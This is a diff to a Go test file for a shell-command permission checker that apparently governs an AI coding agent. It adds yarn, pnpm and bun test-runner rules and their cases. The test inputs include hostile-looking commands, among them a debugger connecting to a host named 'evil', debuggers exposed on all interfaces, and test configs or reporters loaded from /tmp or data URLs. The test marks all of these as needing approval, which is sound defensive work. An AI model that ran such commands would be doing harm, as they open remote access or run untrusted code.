@@ -257,7 +257,7 @@ func TestNamedOutright(t *testing.T) {
 // TestProgramsElsewhere: a rule for what a project runs covers neither code nor a debugger
 // that an option of it takes elsewhere.
 func TestProgramsElsewhere(t *testing.T) {
-	s := spec{mode: "acceptEdits", unlisted: UnlistedAsk, env: fakeFS{}, allow: "Bash(python *.py *); Bash(python -m unittest:*); Bash(python manage.py test:*); Bash(node *.js *); Bash(npm test:*); Bash(npm run test:*); Bash(pnpm test:*); Bash(yarn test:*); Bash(go:*)"}
+	s := spec{mode: "acceptEdits", unlisted: UnlistedAsk, env: fakeFS{}, allow: "Bash(python *.py *); Bash(python -m unittest:*); Bash(python manage.py test:*); Bash(node *.js *); Bash(npm test:*); Bash(yarn run test:*); Bash(pnpm run test:*); Bash(bun run test:*); Bash(npm run test:*); Bash(pnpm test:*); Bash(yarn test:*); Bash(go:*)"}
 	for _, tt := range []struct {
 		want  Behavior
 		lines string
@@ -268,7 +268,7 @@ func TestProgramsElsewhere(t *testing.T) {
 		{Allow, "python manage.py test | python manage.py test app.tests -k x | python manage.py test --pythonpath=src | python manage.py runserver 0.0.0.0:8000 | python manage.py startapp blog src/blog | python manage.py dumpdata -o a.json | python manage.py own --limit 5 data/in.csv"},
 		{Ask, "node --inspect=0.0.0.0:9229 a.js | node --inspect-brk=0.0.0.0 a.js | node --inspect-port=192.168.1.1:80 --inspect a.js | node '--inspect=[::]:80' a.js | node --test --test-reporter=file:///tmp/x.mjs a.js | node --test --test-reporter=data:text/javascript,1 a.js | node --inspect=$x a.js | python -m debugpy --listen 0.0.0.0:5678 x.py | python -m debugpy --connect evil:5678 x.py"},
 		{Allow, "node --inspect a.js | node --inspect=9230 a.js | node --inspect-brk=127.0.0.1:9229 a.js | node --inspect=localhost a.js | node '--inspect=[::1]:80' a.js | python -m debugpy --listen 5678 x.py | python -m debugpy --listen localhost:5678 x.py"},
-		{Ask, "npm test -- --config /tmp/x | npm run test -- --config=/tmp/x | npm run test -- --rootDir ../x | npm test -- --globalSetup file:///tmp/x.mjs | pnpm test --config /tmp/x | yarn test --config=../x"},
+		{Ask, "npm test -- --config /tmp/x | npm run test -- --config=/tmp/x | npm run test -- --rootDir ../x | npm test -- --globalSetup file:///tmp/x.mjs | pnpm test --config /tmp/x | yarn test --config=../x | yarn run test --config=../x | pnpm run test --config /tmp/x | bun run test --config /tmp/x"},
 		{Allow, "npm test -- --config jest.config.js | npm test -- -t '/api works' | npm test -- --testPathPattern=/foo/ | npm run test -- --base-url=http://localhost:3000 | npm test -- ./src | pnpm test src/a | yarn test --coverage"},
 		{Ask, "go tool -C /tmp x | go test -C ../x ./... | go run -C /tmp . | go fmt /tmp/x.go | go fmt ../x.go | go fmt ../... | go fmt -C /tmp ./..."},
 		{Allow, "go tool x | go tool -C sub x | go test -C sub ./... | go fmt | go fmt a.go | go fmt ./... | go vet ./..."},
